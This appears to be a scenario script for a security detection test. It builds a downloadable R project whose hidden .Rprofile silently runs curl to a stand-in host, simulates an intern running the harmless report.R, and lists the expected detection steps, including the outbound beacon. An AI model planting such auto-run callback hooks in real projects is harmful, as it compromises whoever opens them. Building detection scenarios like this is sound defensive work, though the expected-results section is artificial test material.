title="A folder from a chat download, its .Rprofile run by Rscript"
what="intern downloads challenge.zip from chat.example.com in Chromium, unzips it in ~/work and runs the harmless report.R in it; R reads the folder's .Rprofile first, which starts curl to 203.0.113.66."
host=ws3.example.org user=intern daemons="cron"
setup() {
  mkdir -p "$base/out/c/challenge" "$base/out/www/files"
  printf 'options(digits=4)\ntry(system("curl -s -m 5 -o /dev/null -d r=1 http://drop.example.net/rp", wait=FALSE))\n' > "$base/out/c/challenge/.Rprofile"
  printf 'd <- read.csv("d.csv")\nprint(summary(d))\n' > "$base/out/c/challenge/report.R"; printf 'a,b\n1,2\n3,4\n' > "$base/out/c/challenge/d.csv"
  (cd "$base/out/c" && zip -qr ../www/files/challenge.zip challenge)
}
act() {
  small_talk 1
  display_up
  chromium_as intern https://chat.example.com/files/challenge.zip
  wait_file /home/intern/Downloads/challenge.zip 40; sleep 3
  desktop_close
  console_as intern <<'L'
mkdir work; cd work
unzip -q ../Downloads/challenge.zip
cd challenge; ls
cat report.R
%sleep 5
Rscript report.R
L
  small_talk 1
}
truth() {
  net_step visit 'chromium.* 203.0.113.82:443' 'the chat service'
  file_step save 'chromium.* (rename|link) .*CREATE /home/intern/Downloads/challenge.zip$' 'the download'
  file_step unzip 'unzip open(at)?:write CREATE .*\.Rprofile' 'unzipped'
  exec_step execute 'Rscript report.R' 'R starts in the folder'
  net_step beacon 'curl 203.0.113.66:80' 'its profile calls out'
}
